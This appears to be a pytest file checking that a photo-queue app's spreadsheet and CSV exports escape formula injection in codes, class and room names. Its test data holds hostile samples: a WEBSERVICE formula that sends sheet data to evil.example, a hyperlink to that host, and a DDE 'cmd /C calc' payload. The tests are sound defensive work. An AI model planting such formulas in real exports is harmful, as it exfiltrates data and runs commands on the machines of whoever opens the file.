"""Exports are data, never code: collection codes, class and room names that begin like a spreadsheet formula
reach every xlsx and csv of the station and the centre as text (checked with openpyxl on the produced files
and as a spreadsheet reads a CSV), and the codes themselves are still accepted and numbered."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import time

import httpx
import openpyxl
import pytest
from clirun import run_cli

from photoqueue.central import accounts
from photoqueue.central.process import CentralThread
from photoqueue.central.settings import CentralSettings
from photoqueue.device.store.events import db_path
from photoqueue.device.sync.client import SyncClient
from photoqueue.reports.cells import FORMULA_STARTS, safe_cell

EVIL = '=IFERROR(WEBSERVICE("http:"&"//evil.example/c?"&TEXTJOIN(",",1,E2:E999)),"")'
CODES = [EVIL, "+QUJDRA==", "-2+3-4-5", "@SUM(1,2)", "=HYPERLINK(\"http://evil.example\")"]
ROOM, DATE = "+R1", "2020-09-13"
CLASSES = ["=1+1班", "-建工181", "@信息"]


def pq(*args: str) -> subprocess.CompletedProcess:
    return run_cli(*args, check=True)  # in process (tests/clirun.py)


@pytest.fixture
def timetable(tmp_path):
    path = tmp_path / "timetable.csv"
    rows = ["date,room,location,start,end,college,class_name,headcount"]
    rows += [f"{DATE},{ROOM},101,{8 + i:02d}:00,{8 + i:02d}:50,=cmd|' /C calc'!A0,{name},3" for i, name in enumerate(CLASSES)]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def station(tmp_path, timetable):
    data = tmp_path / "station"
    out = pq("scan", "--data-dir", str(data), "--room", ROOM, "--date", DATE, "--timetable", str(timetable),
             "--", *CODES)
    numbers = [json.loads(line).get("number") for line in out.stdout.splitlines()]
    assert numbers == list(range(1, len(CODES) + 1)), out.stdout  # codes are opaque: none refused
    for _ in range(3):
        pq("queue", "--data-dir", str(data), "--room", ROOM, "--date", DATE, "advance")
    return data


def formula_cells(body: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(body))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def risky_csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row
            if cell.startswith(FORMULA_STARTS)]


def test_safe_cell_escapes_only_what_a_spreadsheet_would_run():
    assert [safe_cell(c)[0] for c in [*CODES, "\t=1+1", "\r=1+1"]] == ["'"] * (len(CODES) + 2)
    assert safe_cell("'=x") == "'=x" and safe_cell("班级=1") == "班级=1" and safe_cell("") == ""
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_the_station_xlsx_has_no_formula_and_keeps_each_code_exactly(station, tmp_path):
    out = tmp_path / "export.xlsx"
    pq("export", "--data-dir", str(station), "--format", "xlsx", "--out", str(out))
    body = out.read_bytes()
    assert formula_cells(body) == []
    wb = openpyxl.load_workbook(io.BytesIO(body))
    agency = next(ws for ws in wb if ws.title.startswith("图片社"))
    texts = {c.value for row in agency.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(CODES) <= texts  # the exact code, as text: the agency joins photos by it
    assert set(CLASSES) <= {c.value for ws in wb for row in ws.iter_rows() for c in row}


@pytest.mark.parametrize("report", ["agency", "counts", "makeup"])
def test_every_station_csv_escapes_formula_cells(station, report):
    text = pq("export", "--data-dir", str(station), "--format", "csv", "--report", report).stdout
    assert risky_csv_cells(text) == []
    if report == "agency":
        assert {"'" + c for c in CODES} <= {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_every_centre_export_is_formula_free(station, timetable, tmp_path):
    settings = CentralSettings(db=f"sqlite:///{tmp_path / 'central.db'}")
    with CentralThread(settings) as central:
        _, token = accounts.add_station(central.store.db, ROOM)
        accounts.add_user(central.store.db, "office", "office-password")
        client = SyncClient(db_path(station), central.url, token, room=ROOM)
        for _ in range(10):
            if not client.sync_once().pending:
                break
        client.stop()
        with httpx.Client(base_url=central.url, timeout=30) as staff:
            login = staff.post("/api/v1/login", json={"name": "office", "password": "office-password"})
            staff.headers["X-CSRF-Token"] = login.json()["csrf"]
            assert staff.post("/api/v1/timetable", content=_timetable_json(timetable),
                              headers={"content-type": "application/json"}).status_code == 200
            time.sleep(0.1)
            from photoqueue.central.dashboard.exports import EXPORTS

            for name in EXPORTS:
                r = staff.get(f"/dashboard/export/{name}")
                assert r.status_code == 200, name
                if name.endswith(".xlsx"):
                    assert formula_cells(r.content) == [], name
                elif name.endswith(".html"):  # the settlement slip: text escaped for HTML, not a spreadsheet
                    assert "<script" not in r.text.lower(), name
                else:
                    assert risky_csv_cells(r.content.decode("utf-8")) == [], name


def _timetable_json(path) -> bytes:
    from photoqueue.timetable import load_timetable

    return json.dumps({"slots": load_timetable(path).to_dicts()}, ensure_ascii=False).encode()
